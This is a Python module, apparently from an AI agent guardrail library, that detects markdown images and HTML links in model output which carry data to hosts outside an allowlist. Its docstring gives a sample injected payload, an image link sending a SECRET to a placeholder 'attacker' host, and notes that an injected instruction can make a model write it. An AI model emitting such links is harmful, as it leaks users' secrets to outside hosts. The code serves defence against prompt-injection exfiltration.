"""Links in output that carry data to another host: an image is loaded, and the data sent, without a click.

An injected instruction can make a model write `![](https://attacker/?q=SECRET)` (OWASP LLM02:2025). Images
that carry data are `exfiltration`; links that need a click are `link_with_data`.
"""

import math
import re
from collections.abc import Sequence
from urllib.parse import unquote, urlsplit

from agents.guardrails.detection import Kind
from agents.guardrails.recognizer import Recognizer, Validate, context, recognizer
from agents.guardrails.secret_formats import entropy

_URL = r"(?i:https?:)?//[^\s<>\"'`)\]\\]{3,2000}"
_ALPHABET = r"[^\s<>\"'`)\]\\]"
_OPENING = r"(?<![A-Za-z0-9:])(?i:(?:https?:)?//|(?:h(?:t(?:t(?:ps?(?::/?)?)?)?)?|/)\Z)"
_LOADED = re.compile(
    r"(?i)(?:!\[[^\]\n]{0,180}\]\(\s{0,3}<?"
    r"|<(?:img|image|iframe|source|video|audio|embed|object|link|script|input|use)\b[^>\n]{0,160}"
    r"(?:src|srcset|href|data|poster)\s{0,2}=\s{0,2}[\"']?"
    r"|url\(\s{0,2}[\"']?"
    r"|(?:^|\n) {0,3}\[[^\]\n]{1,80}\]:\s{0,3}<?)$"
)
_LINKED = re.compile(r"(?i)(?:\]\(\s{0,3}<?|href\s{0,2}=\s{0,2}[\"']?)$")
_MIN_IMAGE_CHARS = 8
_MIN_LINK_CHARS = 40


def exfiltration(allowed_hosts: Sequence[str]) -> tuple[Recognizer, ...]:
    """The recognizers; `allowed_hosts`, with their subdomains, may receive data."""
    hosts = tuple(host.lower().rstrip(".") for host in allowed_hosts)
    return (
        recognizer(
            Kind.EXFILTRATION,
            "loaded_url_with_data",
            rf"(?<![A-Za-z0-9:]){_URL}",
            alphabet=_ALPHABET,
            max_chars=2010,
            hints=("//",),
            opening=_OPENING,
            validate=_carries_data(hosts, loaded=True),
            confidence=0.9,
        ),
        recognizer(
            Kind.LINK_WITH_DATA,
            "link_with_data",
            rf"(?<![A-Za-z0-9:]){_URL}",
            alphabet=_ALPHABET,
            max_chars=2010,
            hints=("//",),
            opening=_OPENING,
            validate=_carries_data(hosts, loaded=False),
            confidence=0.5,
        ),
    )


def data_chars(url: str) -> int:
    """How many characters of a URL could be data.

    Counted are the values of the query, the fragment, the user, and those parts of path and host that look
    encoded.
    """
    parts = urlsplit(url)
    values = [part.partition("=")[2] or part for part in re.split("[&;]", parts.query) if part]
    values.append(parts.fragment)
    values += [segment for segment in parts.path.split("/") if _looks_encoded(segment)]
    labels = (parts.netloc.rpartition("@")[2].partition(":")[0]).split(".")[:-2]
    values += [label for label in labels if _looks_encoded(label)]
    if "@" in parts.netloc:
        values.append(parts.netloc.partition("@")[0])
    return sum(len(unquote(value)) for value in values)


def _looks_encoded(segment: str) -> bool:
    """Whether a part of a path looks like encoded data, and not like words or a file's name."""
    stem = segment.partition(".")[0]
    if "⟦" in segment:
        return True
    if len(stem) < 20 or re.search(r"[-_ ].*[-_ ]", stem):
        return False
    return entropy(stem) > 0.7 * math.log2(min(len(stem), 64))


def _carries_data(hosts: tuple[str, ...], *, loaded: bool) -> Validate:
    def validate(text: str, start: int, end: int) -> tuple[int, int] | None:
        url = text[start:end]
        before = context(text, start)
        if (_LOADED.search(before) is not None) != loaded:
            return None
        try:
            host = (urlsplit(url).hostname or "").rstrip(".")
            carried = data_chars(url)
        except ValueError:  # such as an unfinished IPv6 address
            return None
        if any(host == allowed or host.endswith(f".{allowed}") for allowed in hosts):
            return None
        linked = loaded or _LINKED.search(before) is not None or "⟦" in url
        least = _MIN_IMAGE_CHARS if loaded else _MIN_LINK_CHARS
        return (start, end) if linked and (carried >= least or "⟦" in url) else None

    return validate
